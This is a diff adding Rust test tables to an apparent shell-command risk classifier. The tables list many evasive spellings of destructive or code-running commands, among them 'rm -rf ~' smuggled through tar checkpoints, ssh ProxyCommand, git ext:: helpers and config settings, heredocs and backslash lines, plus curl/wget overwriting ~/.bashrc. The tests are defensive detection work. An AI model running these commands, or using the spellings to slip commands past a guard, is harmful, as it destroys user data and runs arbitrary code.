@@ -21,6 +21,158 @@ const SPELLINGS: &[(&str, Risk)] = &[
     ("tar --to-comm='rm -rf ~' -xf a.tar", Critical),
 ];
 
+/// Class 8: one option table per program (arity, prefixes, clusters, settings): a
+/// value that is a written file, a script or a program is found in every spelling.
+const OPTION_TABLE: &[(&str, Risk)] = &[
+    ("sed -n --expr='1e touch p' f", High),
+    ("sed --expression='e ls' f", High),
+    ("sed -ne 'w out' f", High),
+    ("curl -fsSLo ~/.bashrc https://e.x", Critical),
+    ("curl --dump-h ~/.bashrc https://e.x", Critical),
+    ("wget -qO ~/.bashrc https://e.x", Critical),
+    (
+        "wget --output-doc=/home/wardentest/.bashrc https://e.x",
+        Critical,
+    ),
+    (
+        "wget -e output_document=/home/wardentest/.bashrc https://e.x",
+        Critical,
+    ),
+    ("tar -xf a.tar --dir ~", Critical),
+    ("tar -xf a.tar -C~", Critical),
+    (
+        "tar xf a.tar --checkpoint=1 --checkpoint-action=exec='rm -rf ~'",
+        Critical,
+    ),
+    ("ssh -vo 'PROXYCOMMAND rm -rf ~' h", Critical),
+    (
+        "ssh h -o 'LocalCommand=rm -rf ~' -o PermitLocalCommand=yes",
+        Critical,
+    ),
+    ("ssh -o \"$OPTS\" h", Critical),
+    ("rsync --rsh='rm -rf ~' a h:b", Critical),
+    ("sort -uo ~/.bashrc x", Critical),
+    ("sort --compress-prog=./x a", High),
+];
+
+const OPTION_TABLE_GUARDS: &[(&str, Risk)] = &[
+    ("sed -ne 's/a/b/p' f", Low),
+    ("sed -n 1,5p f", Low),
+    ("tar -tf a.tar", Low),
+    ("tar tvzf a.tgz", Low),
+];
+
+#[test]
+fn one_option_table_reads_every_spelling_of_an_option() {
+    check_table(OPTION_TABLE, true);
+    check_table(OPTION_TABLE_GUARDS, false);
+}
+
+/// Class 7: a here-document whose delimiter is unquoted is expanded before the
+/// command reads it. Its substitutions run in the outer shell (the grammar leaves
+/// backquotes and a line starting with a backslash out of its body), and a shell
+/// reading it runs the expanded text (`\\rm` becomes `\rm`).
+const UNQUOTED_HEREDOCS: &[(&str, Risk)] = &[
+    ("cat <<EOF\n`rm -rf ~`\nEOF", Critical),
+    ("cat <<EOF\n$(rm -rf ~)\nEOF", Critical),
+    ("{ cat; } <<EOF\n`rm -rf ~`\nEOF", Critical),
+    ("sh <<EOF\n\\rm -rf ~\nEOF", Critical),
+    ("sh <<EOF\n\\\\rm -rf ~\nEOF", Critical),
+    ("true && sh <<EOF\n\\\\rm -rf ~\nEOF", Critical),
+    ("cat > s.sh <<EOF\n\\\\rm -rf ~\nEOF\nsh s.sh", Critical),
+    ("sh <<EOF\necho $X\nEOF", Critical),
+    ("cat <<EOF\n${x:=$(touch p)}\nEOF", Medium),
+];
+
+const UNQUOTED_HEREDOC_GUARDS: &[(&str, Risk)] = &[
+    ("cat <<EOF\nhello $HOME\nEOF", Low),
+    ("sh <<EOF\necho hi\nEOF", Low),
+    ("cat <<EOF\nit's \"quoted\" \\$x\nEOF", Low),
+    ("x=1; sh <<EOF\necho $x\nEOF", Low),
+];
+
+/// Class 6: tree-sitter-bash joins a line that starts with a backslash to the line
+/// before it (`echo a` + `\rm -rf ~` was one `echo`, Low), also in a here-document's
+/// body and after its operator: such a line is not read, so Critical.
+const BACKSLASH_LINES: &[(&str, Risk)] = &[
+    ("echo a\n\\rm -rf ~", Critical),
+    ("ls\n\\rm -rf ~", Critical),
+    ("sh <<EOF\nls\n\\rm -rf ~\nEOF", Critical),
+    ("sh <<EOF\nls\n\\\\rm -rf ~\nEOF", Critical),
+    ("cat <<EOF | sh\n\\rm -rf ~\nEOF", Critical),
+    ("bash -c 'echo a\n\\rm -rf ~'", Critical),
+];
+
+const BACKSLASH_LINE_GUARDS: &[(&str, Risk)] = &[
+    ("echo a\nls", Low),
+    ("\\ls src", Low),
+    ("ls \\\n  src", Low),
+];
+
+#[test]
+fn a_line_starting_with_a_backslash_is_not_joined_to_the_line_before() {
+    check_table(BACKSLASH_LINES, false);
+    check_table(BACKSLASH_LINE_GUARDS, false);
+}
+
+#[test]
+fn an_unquoted_here_document_with_a_backslash_line_or_backquotes_is_judged_as_it_runs() {
+    check_table(UNQUOTED_HEREDOCS, true);
+    check_table(UNQUOTED_HEREDOC_GUARDS, false);
+}
+
+/// Class 9: git's code-execution vectors: settings on the command line and in
+/// `git config` (both grammars, `-f FILE`), `--config-env`, another repository's
+/// configuration, remote helpers (`ext::` runs its command), `clone -c` and
+/// `--template`.
+const GIT_EXECUTION: &[(&str, Risk)] = &[
+    ("git --config-env=core.pager=X log", Critical),
+    ("git --config-env core.fsmonitor=X status", Critical),
+    ("git --config-env=include.path=X log", High),
+    ("git --exec-path=/tmp/x status", High),
+    ("git --git-dir=/tmp/x/.git status", High),
+    ("git --work-tree=/tmp/x status", High),
+    ("git ls-remote 'ext::sh -c touch% p'", High),
+    ("git fetch 'ext::sh -c rm% -rf% ~'", Critical),
+    ("git clone ext::sh\\ -c\\ rm%\\ -rf%\\ ~ x", Critical),
+    ("git archive --remote='ext::sh -c touch% p' HEAD", High),
+    ("git ls-remote fd::3", High),
+    ("git remote add x 'ext::sh -c rm% -rf% ~'", Critical),
+    ("git config remote.origin.url 'ext::sh -c touch% p'", High),
+    ("git config -f x core.pager 'rm -rf ~'", Critical),
+    ("git config --file=x core.fsmonitor 'rm -rf ~'", Critical),
+    ("git config set core.pager 'rm -rf ~'", Critical),
+    ("git config -f ~/.gitconfig user.name x", Critical),
+    ("git config get remote.origin.url", Medium),
+    ("git config list", Medium),
+    ("git config edit", Medium),
+    (
+        "git clone -c core.fsmonitor='rm -rf ~' https://e.x/r",
+        Critical,
+    ),
+    (
+        "git clone --config=core.hooksPath=h https://e.x/r",
+        Critical,
+    ),
+    ("git clone --template=/tmp/t https://e.x/r", High),
+];
+
+const GIT_EXECUTION_GUARDS: &[(&str, Risk)] = &[
+    ("git --no-pager log --oneline", Low),
+    ("git -C sub status", Low),
+    ("git config get user.name", Low),
+    ("git config --get user.email", Low),
+    ("git -c color.ui=never diff", Low),
+    ("git config --unset core.pager", Medium),
+    ("git config unset core.pager", Medium),
+];
+
+#[test]
+fn git_settings_transports_and_other_repositories_that_run_code_are_judged() {
+    check_table(GIT_EXECUTION, true);
+    check_table(GIT_EXECUTION_GUARDS, false);
+}
+
 /// Class 9: git's grammar.
 const GIT: &[(&str, Risk)] = &[
     ("git config core.pager 'touch p'", Medium),
@@ -194,6 +346,67 @@ const ENTRY_POINTS: &[(&str, Risk)] = &[
     ("npm set-script test 'rm -rf ~'; npm test", Critical),
     ("npm pkg set scripts.test=\"$X\"", Critical),
 ];
+
+/// Class 13: every build or test entry point runs the workspace's code: never Low.
+const BUILD_TOOLS: &[(&str, Risk)] = &[
+    ("cargo build", Medium),
+    ("cargo test", Medium),
+    ("cargo run", Medium),
+    ("cargo t", Medium),
+    ("cargo check", Medium),
+    ("cargo xtask dist", Medium),
+    ("make", Medium),
+    ("make -n", Medium),
+    ("pip install .", Medium),
+    ("pip install -e .", Medium),
+    ("python setup.py install", Medium),
+    ("python -m pytest", Medium),
+    ("gradle build", Medium),
+    ("./gradlew build", Medium),
+    ("mvn package", Medium),
+    ("./mvnw test", Medium),
+    ("go generate ./...", Medium),
+    ("go test ./...", Medium),
+    ("npm test", Medium),
+    ("cmake -P x.cmake", Medium),
+    ("bazel test //...", Medium),
+    ("rake", Medium),
+    ("dotnet test", Medium),
+    ("zig build", Medium),
+];
+
+/// Class 13: a build entry file the line wrote is the line's own code, and a program
+/// named on a build tool's command line is not the project's.
+const BUILD_ENTRY_POINTS: &[(&str, Risk)] = &[
+    ("echo 'all:; touch p' > Makefile && make", High),
+    ("echo 'fn main(){}' > build.rs && cargo build", High),
+    ("sed -i 's/a/b/' Makefile && make", High),
+    ("echo x >> package.json && npm test", High),
+    ("printf 'x' > conftest.py; pytest", High),
+    ("echo '//go:generate touch p' > x.go && go generate", High),
+    ("make CC='rm -rf ~'", Critical),
+    ("make SHELL=/tmp/x", High),
+    ("cargo --config 'build.rustc-wrapper=\"./x\"' build", High),
+    (
+        "cargo --config 'target.x86_64-unknown-linux-gnu.runner=\"rm -rf ~\"' run",
+        Critical,
+    ),
+    ("cargo --config /tmp/c.toml build", High),
+];
+
+const BUILD_GUARDS: &[(&str, Risk)] = &[
+    ("make -j4 CC=gcc", Medium),
+    ("cargo build --release", Medium),
+    ("cargo --list", Low),
+    ("shellcheck x.sh", Low),
+];
+
+#[test]
+fn build_entry_points_are_never_low_and_code_written_for_them_is_not_the_project_s() {
+    check_table(BUILD_TOOLS, true);
+    check_table(BUILD_ENTRY_POINTS, true);
+    check_table(BUILD_GUARDS, false);
+}
 
 #[test]
 fn line_joining_cannot_hide_a_command() {
